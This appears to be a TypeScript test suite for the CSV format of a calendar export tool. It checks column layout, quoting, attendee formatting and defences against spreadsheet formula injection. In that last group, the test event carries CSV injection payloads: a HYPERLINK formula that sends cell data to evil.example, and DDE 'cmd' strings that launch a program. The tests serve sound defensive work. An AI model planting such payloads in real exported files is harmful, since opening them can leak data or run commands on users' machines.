import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, createEncoder, encodeAll } from '../../../../src/core/export/formats/index.js';
import { neutraliseCell } from '../../../../src/core/export/formats/csv.js';
import { eventKey } from '../../../../src/shared/model.js';
import { sampleEvents } from '../../../support/sample-events.js';

const meta = { mailbox: 'anna.schmidt@contoso.com', folder: 'calendar' };

describe('CSV format', () => {
  const events = sampleEvents();
  const text = encodeAll(createEncoder('csv', meta), events);

  it('has a header row with the documented columns and CRLF record ends', () => {
    const rows: string[][] = parse(text);
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(events.length + 1);
    expect(text.split('\r\n')[0]).toBe(CSV_COLUMNS.join(','));
  });

  it('round-trips commas, quotes, semicolons, line breaks and non-ASCII text through a strict RFC 4180 parser', () => {
    const records: Record<string, string>[] = parse(text, { columns: true, relax_quotes: false, relax_column_count: false });
    events.forEach((e, i) => {
      const r = records[i];
      expect(r.subject).toBe(e.subject);
      expect(r.location).toBe(e.location);
      expect(r.body).toBe(e.body ?? '');
      expect(r.eventKey).toBe(eventKey(e));
      expect(r.mailbox).toBe(meta.mailbox);
      expect(r.start).toBe(e.start);
      expect(r.isAllDay).toBe(String(e.isAllDay));
      expect(r.categories).toBe(e.categories.join('; '));
    });
  });

  it('lists attendees as "Name <email>" and keeps the organizer in two columns', () => {
    const records: Record<string, string>[] = parse(text, { columns: true });
    const kickOff = records.find((r) => r.subject === 'Kick-off')!;
    expect(kickOff.attendees).toBe('Jan de Vries <jan.devries@contoso.com>; Room Amsterdam <room.amsterdam@contoso.com>; No Mail');
    expect(kickOff.organizerEmail).toBe('anna.schmidt@contoso.com');
    expect(kickOff.isCancelled).toBe('true');
  });

  it('writes only the header for an empty folder', () => {
    expect(parse(encodeAll(createEncoder('csv', meta), []))).toEqual([[...CSV_COLUMNS]]);
  });

  describe('cells a spreadsheet would evaluate', () => {
    const hostile = {
      ...events[0],
      subject: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      location: "+cmd|' /C calc'!A0",
      organizer: { name: "@SUM(1+1)*cmd|' /C calc'!A0", email: 'x@contoso.com' },
      categories: ['-2+3'],
      body: '\t=1+1',
      attendees: [{ name: '\r=1', email: 'a@contoso.com', type: 'required' as const, response: 'none' as const }],
    };

    it('are neutralised by default with a leading single quote (OWASP), everything else unchanged', () => {
      const [r] = parse<Record<string, string>>(encodeAll(createEncoder('csv', meta), [hostile]), { columns: true });
      expect(r.subject).toBe(`'${hostile.subject}`);
      expect(r.location).toBe(`'${hostile.location}`);
      expect(r.organizerName).toBe(`'${hostile.organizer.name}`);
      expect(r.categories).toBe("'-2+3");
      expect(r.body).toBe("'\t=1+1");
      expect(r.attendees).toBe("'\r=1 <a@contoso.com>");
      expect(r.organizerEmail).toBe('x@contoso.com');
      expect(r.start).toBe(hostile.start);
      expect(r.mailbox).toBe(meta.mailbox);
    });

    it('full-width formula characters are neutralised too; plain text is not touched', () => {
      expect(neutraliseCell('＝1+1')).toBe("'＝1+1");
      expect(neutraliseCell('Team meeting = important')).toBe('Team meeting = important');
      expect(neutraliseCell('')).toBe('');
    });

    it('a job for machine consumers keeps them as they are', () => {
      const [r] = parse<Record<string, string>>(encodeAll(createEncoder('csv', meta, { csvKeepFormulas: true }), [hostile]), {
        columns: true,
      });
      expect(r.subject).toBe(hostile.subject);
      expect(r.location).toBe(hostile.location);
    });

    it('the ICS and JSON formats are not changed by it', () => {
      expect(encodeAll(createEncoder('json', meta), [hostile])).toContain('=HYPERLINK');
      expect(encodeAll(createEncoder('json', meta), [hostile])).not.toContain("'=HYPERLINK");
    });
  });
});
